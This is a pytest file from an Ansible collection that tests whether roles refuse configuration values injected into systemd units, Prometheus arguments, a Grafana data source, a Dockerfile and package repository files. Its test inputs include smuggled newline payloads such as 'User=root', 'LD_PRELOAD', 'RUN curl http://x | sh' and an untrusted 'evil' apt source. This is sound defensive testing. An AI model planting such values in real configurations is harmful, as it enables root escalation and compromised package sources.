# Copyright: contributors to llmops.serving
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Issue 34, class 2: the reproducers of values that went raw into a rendered file, rendered with Ansible's
own Templar from the roles' defaults, vars and task expressions: each is refused naming its setting, the
values a user means still render. And every systemd unit a role writes with a template is checked by
systemd-analyze verify (where the node has it), which fails on a line a value broke."""
import glob
import os
import re
import shlex
import shutil
import subprocess

import pytest
import yaml
from ansible.errors import AnsibleError
from ansible_collections.llmops.serving.plugins.plugin_utils import systemd

from tests.helpers import ROOT, load_yaml
from tests.roles import test_monitoring_role as mon
from tests.roles import test_ray_cluster_role as ray
from tests.roles.test_nvidia_driver import flat_tasks

RAY_INJECTION = "1\nUser=root\nExecStartPre=+/bin/touch /tmp/x"


# --- ray.service ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("env", [{"A": RAY_INJECTION}, {"A\nUser=root": "1"}, {"HF_TOKEN\n": "x"}])
def test_ray_cluster_env_that_would_leave_its_line_is_refused_at_plan_time_and_render(env):
    variables = ray.role_vars("gpu-a", ray_cluster_env=env)
    check = next(t for t in load_yaml(os.path.join(ray.ROLE, "tasks", "validate.yml"))
                 if t["name"].startswith("Check the environment of the Ray unit"))
    with pytest.raises(AnsibleError, match="ray_cluster_env") as caught:
        ray.template(variables, "{{ %s }}" % check["ansible.builtin.assert"]["that"][0])
    assert "/tmp/x" not in str(caught.value)
    with pytest.raises(AnsibleError, match="ray_cluster_env"):
        ray.exec_start(variables)


def test_ray_cluster_env_with_spaces_and_quotes_renders_as_one_assignment_each():
    _argv, text = ray.exec_start(ray.role_vars("gpu-a", ray_cluster_env={
        "NCCL_SOCKET_IFNAME": "eth1", "NCCL_DEBUG_SUBSYS": 'INIT NET "x"', "RATIO": "100%"}))
    lines = [line for line in text.splitlines() if line.startswith("Environment=")]
    assert lines == ["Environment=RAY_USAGE_STATS_ENABLED=0",
                     'Environment="NCCL_DEBUG_SUBSYS=INIT NET \\"x\\""',
                     'Environment="NCCL_SOCKET_IFNAME=eth1"', 'Environment="RATIO=100%%"']


@pytest.mark.parametrize("key", ["ray_cluster_user", "ray_cluster_user_group", "ray_cluster_temp_dir",
                                 "ray_cluster_version", "ray_cluster_group"])
def test_a_ray_unit_value_with_a_newline_is_refused(key):
    variables = ray.role_vars("gpu-a", **{key: "llama\nUser=root"})
    with pytest.raises(AnsibleError, match=key):
        ray.exec_start(variables)


# --- the GPU collector's timer ----------------------------------------------------------------------------


def plan_check():
    return next(t for t in load_yaml(os.path.join(mon.NODE_ROLE, "tasks", "plan.yml"))
                if t["name"].startswith("Check the GPU collector's interval"))


def test_a_collector_interval_that_is_not_a_time_span_is_refused(tmp_path):
    _variables, templar = mon.node_plan(tmp_path, monitoring_gpu_collector_interval="15s\nUnit=other.service")
    with pytest.raises(AnsibleError, match="monitoring_gpu_collector_interval"):
        mon.render(templar, mon.NODE_ROLE, "llmops-gpu-metrics.timer.j2")
    with pytest.raises(AnsibleError, match="monitoring_gpu_collector_interval"):
        templar.template("{{ %s }}" % plan_check()["ansible.builtin.assert"]["that"][0])


def test_a_collector_python_with_a_newline_is_refused_before_the_root_run_entry_point(tmp_path):
    python = "/usr/bin/python3\nimport os; os.system('x')"
    _variables, templar = mon.node_plan(tmp_path, monitoring_python=python)
    with pytest.raises(AnsibleError, match="monitoring_python"):
        mon.render(templar, mon.NODE_ROLE, "llmops_gpu_metrics.py.j2")
    with pytest.raises(AnsibleError, match="monitoring_python"):
        templar.template("{{ %s }}" % plan_check()["ansible.builtin.assert"]["that"][1])


def test_a_collector_interval_of_two_units_renders(tmp_path):
    _variables, templar = mon.node_plan(tmp_path, monitoring_gpu_collector_interval="1min 30s")
    timer = mon.render(templar, mon.NODE_ROLE, "llmops-gpu-metrics.timer.j2")
    assert "OnUnitActiveSec=1min 30s" in timer and "Unit=" not in timer


def test_the_dcgm_units_docker_client_is_quoted(tmp_path):
    _variables, templar = mon.node_plan(tmp_path, monitoring_dcgm_exporter=True,
                                        monitoring_docker_binary="/usr/bin/docker\nExecStartPre=+/bin/sh")
    with pytest.raises(AnsibleError, match="control character"):
        mon.render(templar, mon.NODE_ROLE, "llmops-dcgm-exporter.service.j2")


# --- Prometheus' ARGS and Grafana's data source -----------------------------------------------------------


@pytest.mark.parametrize("key, value", [
    ("monitoring_server_retention", "30d --web.enable-admin-api"),
    ("monitoring_server_retention", '30d"\nLD_PRELOAD="/tmp/x.so'),
    ("monitoring_server_listen_address", '0.0.0.0" LD_PRELOAD="/tmp/x.so'),
    ("monitoring_server_listen_address", "0.0.0.0\n"),
])
def test_prometheus_args_injection_is_refused_at_plan_time(key, value):
    with pytest.raises(AnsibleError, match=key):
        mon.server_vars(**{key: value})


def test_prometheus_args_of_legitimate_values():
    _variables, templar = mon.server_vars(monitoring_server_listen_address="10.0.0.9",
                                          monitoring_server_retention="90d")
    args = mon.render(templar, mon.SERVER_ROLE, "prometheus.default.j2")
    line = [x for x in args.splitlines() if x.startswith("ARGS=")]
    assert len(line) == 1
    assert shlex.split(line[0][len("ARGS="):])[0].split(" ") == [
        "--config.file=/etc/prometheus/prometheus.yml", "--web.listen-address=10.0.0.9:9090",
        "--web.config.file=/etc/prometheus/llmops-web.yml", "--web.enable-remote-write-receiver",
        "--storage.tsdb.retention.time=90d"]


def datasource(templar):
    return yaml.safe_load(mon.render(templar, mon.SERVER_ROLE, "grafana-datasource.yml.j2"))


def test_a_grafana_user_that_would_add_a_data_source_is_refused():
    injection = ("llmops-grafana\n  - name: evil\n    type: prometheus\n    url: http://evil\n"
                 "    isDefault: true")
    variables, templar = mon.server_vars(monitoring_server_query_username=injection)
    with pytest.raises(AnsibleError, match="monitoring_server_query_username"):
        templar.template(mon.task_expression(mon.SERVER_ROLE, "plan.yml", mon.SERVER_FLAGS_TASK,
                                             "_monitoring_server_users"))
    variables["monitoring_server_query_username"] = injection  # past the plan: the template refuses it too
    with pytest.raises(AnsibleError, match="monitoring_server_query_username"):
        datasource(mon.role_templar(mon.SERVER_ROLE, variables))


def test_the_grafana_data_source_is_one_with_the_user_given():
    _variables, templar = mon.server_vars(monitoring_server_query_username="grafana.reader@ops",
                                          monitoring_server_query_password='pw" with: yaml')
    sources = datasource(templar)["datasources"]
    assert len(sources) == 1
    assert sources[0]["basicAuthUser"] == "grafana.reader@ops"
    assert sources[0]["url"] == "http://127.0.0.1:9090"
    assert sources[0]["secureJsonData"]["basicAuthPassword"] == 'pw" with: yaml'


# --- plan-time checks of other roles' files ---------------------------------------------------------------


def assert_conditions(role, tasks_file, name, variables):
    """The conditions of assert task `name` of `role`, over its defaults, `variables` and the task's vars."""
    role_dir = os.path.join(ROOT, "roles", role)
    given = load_yaml(os.path.join(role_dir, "defaults", "main.yml"))
    given.update(variables)
    tasks = flat_tasks(load_yaml(os.path.join(role_dir, "tasks", tasks_file)))
    task = next(t for t in tasks if t["name"] == name)
    given.update(task.get("vars") or {})
    templar = mon.role_templar(role_dir, given)
    return [templar.template("{{ %s }}" % c) for c in task["ansible.builtin.assert"]["that"]]


# --- llama.cpp's Dockerfile ------------------------------------------------------------------------------

DOCKERFILE_CHECK = ("llama_cpp", "validate.yml",
                    "Check the values the Dockerfile receives (image references, packages, apt mirror)")


def dockerfile_check(**extra):
    return assert_conditions(*DOCKERFILE_CHECK, extra)


def test_the_dockerfile_values_a_user_means_pass():
    assert all(dockerfile_check())
    assert all(dockerfile_check(llama_cpp_builder_apt_mirror="https://mirrors.tuna.tsinghua.edu.cn/ubuntu/",
                                llama_cpp_builder_packages=["cmake", "g++", "libssl-dev=3.0.2-0ubuntu1.15"],
                                llama_cpp_cuda_image_registry="registry.lan:5000/mirror",
                                llama_cpp_builder_image_digest="sha256:" + "a" * 64))


@pytest.mark.parametrize("key, value, index", [
    ("llama_cpp_builder_image", "nvidia/cuda:12.4.1\nRUN curl http://x | sh", 0),
    ("llama_cpp_runtime_image", "nvidia/cuda:12.4.1 AS x", 1),
    ("llama_cpp_builder_packages", ["cmake\"\nRUN touch /x\n#"], 2),
    ("llama_cpp_builder_apt_mirror", "http://m/ubuntu#g' /etc/passwd; touch /x; echo '", 3),
    ("llama_cpp_builder_apt_mirror", "http://m/ubuntu\n", 3),
])
def test_a_dockerfile_value_that_would_become_an_instruction_is_refused(key, value, index):
    assert dockerfile_check(**{key: value})[index] is False


# --- repository files -------------------------------------------------------------------------------------


EL7_CHECK = ("el7_bootstrap", "el7.yml", "Check the repository URLs (one word each)")
APT_CHECK = ("packages_common", "repo-Debian.yml", "Check the repository's name and URI (one word each)")
APT = {"packages_common_apt_name": "nvidia-container-toolkit", "packages_common_apt_key_url": "https://k",
       "packages_common_apt_uri": "https://nvidia.github.io/libnvidia-container/stable/deb/$(ARCH)"}


def test_repository_urls_a_user_means_pass():
    assert assert_conditions(*EL7_CHECK, {}) == [True]
    mirror = {"el7_bootstrap_mirror": "http://mirror.lan/centos-vault/7.9.2009"}
    assert assert_conditions(*EL7_CHECK, mirror) == [True]
    assert assert_conditions(*APT_CHECK, APT) == [True, True]


@pytest.mark.parametrize("variables", [
    {"el7_bootstrap_mirror": "http://m/centos\ngpgcheck=0"},
    {"el7_bootstrap_epel_gpgkey": "https://k\nLLMOPS_REPO_EOF\ntouch /x"},
    {"el7_bootstrap_base_baseurl": "http://m/os/ http://evil/"},
])
def test_a_repository_url_that_would_add_an_option_or_end_the_here_document_is_refused(variables):
    assert assert_conditions(*EL7_CHECK, variables) == [False]


def test_an_apt_source_that_would_add_a_repository_is_refused():
    uri = "https://r/ /\ndeb [trusted=yes] http://evil"
    assert assert_conditions(*APT_CHECK, dict(APT, packages_common_apt_uri=uri))[0] is False
    name = "x.asc] http://evil /\n#"
    assert assert_conditions(*APT_CHECK, dict(APT, packages_common_apt_name=name))[1] is False


# --- validate: steps --------------------------------------------------------------------------------------


def renders_values(templates, src):
    """True when the template `src` renders a value (anything but ansible_managed); a looped src
    ('{{ _monitoring_unit }}.j2') counts."""
    if "{{" in src:
        return True
    with open(os.path.join(templates, src)) as handle:
        return "{{" in re.sub(r"\{\{ ansible_managed[^}]*\}\}", "", handle.read())


def unit_tasks(tasks, templates):
    """The template tasks among `tasks` (and their blocks) that write a systemd unit with values in it."""
    found = []
    for task in tasks or ():
        if isinstance(task, dict):
            found += unit_tasks(task.get("block"), templates)
            spec = task.get("ansible.builtin.template") or {}
            if str(spec.get("dest", "")).startswith("/etc/systemd/system/") \
                    and renders_values(templates, str(spec["src"])):
                found.append(task)
    return found


def unit_template_tasks():
    found = []
    for path in sorted(glob.glob(os.path.join(ROOT, "roles", "*", "tasks", "*.yml"))):
        templates = os.path.join(os.path.dirname(os.path.dirname(path)), "templates")
        found += [(os.path.relpath(path, ROOT), task) for task in unit_tasks(load_yaml(path), templates)]
    return found


def test_every_unit_template_is_verified_by_systemd_analyze():
    tasks = unit_template_tasks()
    assert len(tasks) >= 5, tasks  # ray, node_exporter, agent, collector service+timer, dcgm
    for where, task in tasks:
        assert "systemd_verify_command" in str(task["ansible.builtin.template"].get("validate")), where


@pytest.mark.skipif(not shutil.which("systemd-analyze"), reason="no systemd-analyze here")
def test_the_verify_command_passes_a_rendered_unit_and_fails_a_broken_line(tmp_path):
    _argv, text = ray.exec_start(ray.role_vars("gpu-a", ray_cluster_env={"NCCL_SOCKET_IFNAME": "eth1"}))
    # verify checks that ExecStart's program exists: this machine has no Ray, /bin/true stands in.
    text = "\n".join("ExecStart=/bin/true" if x.startswith("ExecStart=") else x for x in text.splitlines())

    def verify(content):
        unit = tmp_path / "rendered"
        unit.write_text(content + "\n")
        command = systemd.verify_command("ray.service") % unit
        return subprocess.run(shlex.split(command), stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                              universal_newlines=True, timeout=60, check=False)

    good = verify(text)
    assert good.returncode == 0, good.stdout
    # what the old template rendered for the ray_cluster_env: systemd skips the broken line only
    broken = verify(text.replace('Environment="NCCL_SOCKET_IFNAME=eth1"',
                                 'Environment="A=%s"' % RAY_INJECTION))
    assert broken.returncode != 0 and "Invalid syntax" in broken.stdout
